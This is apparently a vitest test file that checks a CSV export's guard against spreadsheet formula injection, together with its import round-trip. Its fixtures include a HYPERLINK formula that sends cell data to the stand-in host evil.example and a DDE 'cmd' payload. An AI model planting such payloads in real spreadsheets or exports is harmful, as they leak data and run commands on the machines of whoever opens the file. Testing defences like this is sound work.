/** CSV export guards against formula injection: a cell starting with `=`, `+`, `-`, `@`, tab or CR is written with a
 * leading `'` (OWASP), plain numbers stay numbers, and the import takes the guard off again, so an export still
 * imports back unchanged. */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { ADMIN_TOKEN } from '../helpers/template.ts';
import { createProducts, send } from './helpers.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
  await createProducts(t);
  await createProducts(t, 'products_copy');
});
afterAll(async () => { await t.close(); });

/** [text stored in `note`, the cell the CSV holds for it] */
const TEXT_CELLS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['-', "'-"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ["'=already guarded", "''=already guarded"],
  ["''+twice", "'''+twice"],
  ['-5', '-5'],
  ['-1.25e-7', '-1.25e-7'],
  ["'just a quote", "'just a quote"],
  [' =leading space', ' =leading space'],
  ['a=b', 'a=b'],
  ['', ''],
];

const exportCsv = (collection: string, query: string) => send(t, 'GET', `/utils/export/${collection}?format=csv${query}`, undefined, {}, ADMIN_TOKEN);

describe('CSV formula guard', () => {
  let ids: number[] = [];
  beforeAll(async () => {
    const res = await t.req('POST', '/items/products', TEXT_CELLS.map(([note], i) => ({ name: `row ${i}`, note })));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    ids = res.body.data as number[];
  });

  it.each(TEXT_CELLS.map(([note, cell], i) => [i, note, cell] as const))('#%i %j is written as %j', async (i, _note, cell) => {
    const res = await exportCsv('products', `&fields=id,note&filter[id][_eq]=${ids[i]}`);
    expect(res.status, res.text).toBe(200);
    const rows = parse(res.text, { columns: true }) as { id: string; note: string }[];
    expect(rows).toEqual([{ id: String(ids[i]), note: cell }]);
  });

  it('the raw text carries the guard inside the CSV quoting', async () => {
    const res = await exportCsv('products', `&fields=note&filter[id][_in]=${ids[0]},${ids[1]}&sort=id`);
    expect(res.text).toBe(`note\n'=1+1\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n`);
  });

  it('numbers stay numbers in numeric and json columns; a JSON string is JSON text', async () => {
    const res = await t.req('POST', '/items/products', { name: '-neg', qty: -5, price: -1.25, big: '-9007199254740993', meta: -3, tags: ['=x'] });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const json = await t.req('POST', '/items/products', { name: '@json', meta: '=x' });
    const csv = await exportCsv('products', `&fields=name,qty,price,big,meta,tags&filter[id][_in]=${res.body.data},${json.body.data}&sort=id`);
    expect(csv.text).toBe(`name,qty,price,big,meta,tags\n'-neg,-5,-1.25,-9007199254740993,-3,"[""=x""]"\n'@json,,,,"""=x""",\n`);
  });

  it('an export imports back unchanged (the import takes the guard off)', async () => {
    const exported = await exportCsv('products', '');
    expect(exported.status).toBe(200);
    const imported = await send(t, 'POST', '/utils/import/products_copy', exported.text, { 'content-type': 'text/csv' }, ADMIN_TOKEN);
    expect(imported.status, imported.text).toBe(200);
    const original = await t.req('GET', '/items/products?limit=-1&sort=id');
    const copy = await t.req('GET', '/items/products_copy?limit=-1&sort=id');
    expect(copy.body.data).toEqual(original.body.data);
    expect(copy.body.data.map((r: { note: string | null }) => r.note)).toEqual(expect.arrayContaining(TEXT_CELLS.map(([note]) => note)));
  });
});
